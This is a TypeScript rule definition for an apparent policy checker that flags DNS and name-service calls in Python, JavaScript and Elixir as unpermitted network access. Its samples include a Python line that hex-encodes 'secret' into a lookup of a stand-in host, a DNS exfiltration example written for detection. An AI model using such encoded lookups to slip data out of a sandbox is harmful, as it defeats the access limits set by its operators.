import type { Rule } from "../../rule.ts";

export const resolveName: Rule = {
  ruleId: "network.resolve_name",
  category: "network",
  severity: "high",
  message: "This asks the name service; the policy grants this program no network.",
  looksLike: "`socket.gethostbyname`, `dns.lookup`, `:inet.gethostbyname`.",
  why: "Each question can carry data away in the name it asks for.",
  fix: "Pass the address in `inputs`.",
  allowedBy: "network",
  in: {
    python: {
      when: [
        {
          use: [
            "socket.gethostbyname*",
            "socket.gethostbyaddr",
            "socket.getaddrinfo",
            "socket.getnameinfo",
            "socket.getfqdn",
            "dns.resolver.**",
            "asyncio.**.getaddrinfo",
          ],
        },
      ],
      bad: [
        'import socket\nsocket.gethostbyname("a.example")',
        'from socket import getaddrinfo as ask\nask("secret".encode().hex() + ".a.example", 80)',
      ],
      good: ["dns = {'resolver': 'a'}\nprint(dns['resolver'])"],
    },
    javascript: {
      when: [
        {
          use: [
            "dns.lookup*",
            "dns.resolve*",
            "dns.reverse",
            "dns.Resolver",
            "dns.promises.**",
            "dns/promises.**",
            "Deno.resolveDns",
          ],
        },
      ],
      bad: [
        'require("dns").lookup("a.example", () => {})',
        'import { resolve4 } from "node:dns/promises";\nawait resolve4("a.example");',
      ],
      good: ["const { resolve } = Promise.withResolvers();\nresolve(1);"],
    },
    elixir: {
      when: [
        {
          use: [
            ":inet.gethostby*",
            ":inet.getaddr*",
            ":inet.getifaddrs",
            ":inet.getif",
            ":inet_res.**",
            ":inet_db.**",
            ":net.getaddrinfo",
          ],
        },
      ],
      bad: [':inet.gethostbyname(~c"a.example")', ':inet_res.lookup(~c"a.example", :in, :a)'],
      good: [':inet.parse_address(~c"10.0.0.1")'],
    },
  },
};
